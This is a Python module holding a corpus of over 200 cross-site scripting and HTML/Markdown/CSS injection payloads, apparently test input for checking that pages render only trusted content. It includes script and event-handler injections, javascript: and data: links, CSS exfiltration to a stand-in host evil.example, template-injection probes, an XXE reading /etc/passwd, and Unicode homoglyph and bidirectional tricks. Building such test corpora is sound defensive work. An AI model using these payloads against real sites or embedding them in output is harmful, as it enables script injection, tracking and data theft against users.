"""More than 200 attempts to have a page of ours do, load or show something that we did not write.

`evil.example` stands for the attacker's host; `alert(1)` for the attacker's code.
"""

from __future__ import annotations

SCRIPTS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script/src="https://evil.example/x.js"></script>
<script	src=https://evil.example/x.js></script>
<script>/*<!--*/alert(1)//--></script>
<script type=module>import "//evil.example/x.js"</script>
<script type="text/vbscript">msgbox 1</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
</script ><script>alert(1)</script >
<script x=">" src="//evil.example/a.js"></script>
<script async nomodule>alert(1)</script>
<script type="importmap">{"imports":{"a":"//evil.example/a.js"}}</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example/"]}]}</script>
<svg><script>alert(1)</script></svg>
<svg><script href="//evil.example/x.js"/></svg>
<svg><script xlink:href=data:,alert(1)></script></svg>
<math><script>alert(1)</script></math>
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
\x3cscript\x3ealert(1)\x3c/script\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&#0000060script&#0000062alert(1)&#0000060/script&#0000062
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
"""

HANDLERS = r'''
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror="alert(1)" alt='
<img src=`x`onerror=alert(1)>
<img """><script>alert(1)</script>">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><image href=x onerror=alert(1)></svg>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)>
<video><source onerror=alert(1) src=x></video>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<div tabindex=1 autofocus onfocus=alert(1)>x</div>
<marquee onstart=alert(1)>x</marquee>
<div onclick="alert(1)" id=main class=x>x</div>
<div style="animation-name:x" onanimationstart=alert(1)></div>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alert(1)>x
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>
<xss oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>
" onmouseover="alert(1)" x="
' onmouseover='alert(1)' x='
" autofocus onfocus=alert(1) "
x" style="background:url(//evil.example/a)" y="
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
"/><svg/onload=alert(1)>
'''

LINKS = r"""
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&Tab;javascript&colon;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example">x</a>
<a href=x ping="https://evil.example/ping">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math href="javascript:alert(1)">x</math>
<area href="javascript:alert(1)" shape=default>
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
javascript://evil.example/%0aalert(1)
javascript:/*https://evil.example/*/alert(1)
view-source:javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg onload=alert(1)>
vbscript:msgbox(1)
livescript:alert(1)
mocha:alert(1)
feed:javascript:alert(1)
jar:https://evil.example/a.jar!/x.html
blob:https://evil.example/x
filesystem:https://evil.example/x
file:///etc/passwd
about:blank#x
ms-msdt:/id PCWDiagnostic
cid:x
tel:+840000
//evil.example/x
\\evil.example\x
https:\\evil.example
https://evil.example/"onmouseover="alert(1)
https://evil.example/'onmouseover='alert(1)
https://evil.example/>)<script>alert(1)</script>
https://evil.example/) <img src=x onerror=alert(1)>
https://evil.example/"><svg/onload=alert(1)>
https://evil.example/](javascript:alert(1))
https://user:password@evil.example/
https://evil.example\@a.example/
https://evil.example/ "onclick=alert(1)
https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E
https://evil.example/&quot;onclick=&quot;alert(1)
http://[::1
http://evil.example:99999/
https://
mailto:a@evil.example?bcc=b@evil.example&body=x
"""

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](//evil.example)
[x](https://evil.example "title")
[x](https://evil.example 'a"onmouseover="alert(1)')
[x](https://evil.example"onmouseover="alert(1))
[x][y] [y]: https://evil.example
[y]: javascript:alert(1)
[1]: https://evil.example
[1]: <javascript:alert(1)> "x"
[x][1]
![x](https://evil.example/t.gif)
![x](x"onerror="alert(1))
![x][y]
[![x](https://evil.example/t.gif)](javascript:alert(1))
![](//evil.example/t.gif =1x1)
<javascript:alert(1)>
<https://evil.example/a>
<owner@evil.example>
<mailto:owner@evil.example>
https://evil.example/bare www.evil.example
`<img src=x onerror=alert(1)>`
``` <script>alert(1)</script> ```
~~~ html <script>alert(1)</script> ~~~
# <img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
1. <img src=x onerror=alert(1)>
| a | b | |---|---| | <svg onload=alert(1)> | x |
\<img src=x onerror=alert(1)>
\[x](javascript:alert(1))
**<img src=x onerror=alert(1)>**
[x]{onclick=alert(1)} {: onclick="alert(1)" }
{: #id .class onmouseover=alert(1) }
&lt;img src=x onerror=alert(1)&gt;
*[HTML]: <script>alert(1)</script>
[^1]: <script>alert(1)</script>
klzzwxh:0000 klzzwxh:0001
amp:lt;script amp:gt;
wzxhzdk:0 wzxhzdk:1
"""

STYLES = r"""
<style>*{display:none}</style>
<style>@import "//evil.example/x.css";</style>
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(//evil.example/a.gif)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}p{font-family:x}</style>
<style>a[href^=h]{background:url(//evil.example/leak)}</style>
<style>@namespace url(//evil.example);</style>
<style><!--</style><script>alert(1)</script>--></style>
<p style="background:url(https://evil.example/a)">x</p>
<p style="background-image:u\rl(//evil.example/a)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(//evil.example/x.htc)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="position:fixed;inset:0;background:red">x</p>
<p style="list-style:url(//evil.example/a)">x</p>
<p style="content:image-set('//evil.example/a' 1x)">x</p>
<p style="cursor:url(//evil.example/a),auto">x</p>
<p style="mask:url(//evil.example/a#b)">x</p>
<link rel="stylesheet" href="//evil.example/x.css">
<link rel=preload as=image href=//evil.example/a>
<link rel=prefetch href=//evil.example/a>
<link rel=dns-prefetch href=//evil.example>
<link rel=preconnect href=//evil.example>
<link rel=modulepreload href=//evil.example/a.js>
<link rel=icon href=//evil.example/favicon>
<link rel=manifest href=//evil.example/m.json>
}</style><style>p{background:url(//evil.example/a)}
*/ p{background:url(//evil.example/a)} /*
; background: url(//evil.example/a);
"""

FOREIGN = r"""
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>
<svg><use xlink:href="//evil.example/x.svg#x"/></svg>
<svg><image xlink:href="//evil.example/x.png"/></svg>
<svg><feImage href="//evil.example/x.png"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><title><p><style><img title="</style><img src=x onerror=alert(1)>">
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img src=1 onerror=alert(1)>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src=1>">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=//evil.example/a></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<table><td background="//evil.example/a">x
<isindex action="javascript:alert(1)" type=image>
<keygen autofocus onfocus=alert(1)>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?xml-stylesheet href="//evil.example/x.css"?>
<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;
<![CDATA[<script>alert(1)</script>]]>
"""

FRAMES = r"""
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<object data="https://evil.example/x"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<applet code=x codebase=//evil.example></applet>
<frameset><frame src=//evil.example></frameset>
<portal src=//evil.example></portal>
<fencedframe src=//evil.example></fencedframe>
<form action="https://evil.example"><input name=key><button>send</button></form>
<button form=x formaction=javascript:alert(1)>x</button>
<input type=image src=//evil.example/a>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="x=1">
<meta charset="utf-7">
<meta name=referrer content=unsafe-url>
<base href="//evil.example/">
<base target=_blank>
<img src="https://evil.example/track.gif" width=1 height=1>
<img srcset="//evil.example/a 1x, //evil.example/b 2x">
<img src=//evil.example/a loading=eager>
<img lowsrc=//evil.example/a dynsrc=//evil.example/b>
<picture><source srcset=//evil.example/a><img></picture>
<video poster=//evil.example/a src=//evil.example/b autoplay></video>
<audio src=//evil.example/a autoplay></audio>
<video><track default src=//evil.example/a.vtt></video>
<body background=//evil.example/a>
<bgsound src=//evil.example/a>
<input type=hidden name=x value=y><a href=#x>x</a>
"""

BREAKOUTS = r"""
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</select><script>alert(1)</script>
</main></body></html><script>alert(1)</script>
</td></tr></table><img src=//evil.example/a>
</li></ul></div><img src=//evil.example/a>
--><script>alert(1)</script><!--
--!><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!-- --!> <img src=x onerror=alert(1)> -->
<!--[if mso]><img src=//evil.example/a><![endif]-->
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->
<![if !mso]><img src=//evil.example/a><![endif]>
<![endif]--><img src=x onerror=alert(1)>
<!--[if IE]><script>alert(1)</script><![endif]-->
]]><script>alert(1)</script>
%><script>alert(1)</script>
?><script>alert(1)</script>
<%= alert(1) %><?php echo 1 ?>
{{ cycler.__init__.__globals__ }} {% include "page.html" %}
{% raw %}<script>alert(1)</script>{% endraw %}
{{7*7}} ${7*7} #{7*7} <%= 7*7 %>
</html
<
</
<!
<a
<a href="
"""

LETTERS = (
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x\x00 onerror=alert(1)>",
    "<\x00script>alert(1)</script>",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u200bscript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img\u2028src=x\u2028onerror=alert(1)>",
    "<svg\u00a0onload=alert(1)>",
    "<scr\u017fipt src=//evil.example/x.js></script>",
    "<\u0130frame src=//evil.example>",
    "\u02ba onmouseover=alert(1) \u02ba",
    "\u202ehttps://elpmaxe.live/\u202c",
    "[https://a.example](https://evil.example/\u202egpj.exe)",
    "\u2066https://evil.example\u2069",
    "https://\u0430pple.example/",
    "https://evil\u3002example/",
    "https://a.example\u2044evil.example/",
    "https://a.example\uff0fevil.example/",
    "https://xn--pple-43d.example/",
    "https://evil.example/\u202etxt.exe",
    "a\u0338\u0338\u0338" + "\u0301" * 50,
    "\x1b[31m<script>alert(1)</script>",
    "a\r\nb\n\n<script>alert(1)</script>\n\n# c",
    "\n\n[y]: https://evil.example\n\n![y]",
    "\n\n    <script>alert(1)</script>\n\n",
    "\n---\n<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03 \x02amp\x03lt;script\x02amp\x03gt;",
)


def all_of_them() -> list[str]:
    """Return every attempt, each once."""
    lists = (SCRIPTS, HANDLERS, LINKS, MARKDOWN, STYLES, FOREIGN, FRAMES, BREAKOUTS)
    lines = (line for text in lists for line in text.splitlines() if line.strip())
    return list(dict.fromkeys([*lines, *LETTERS]))
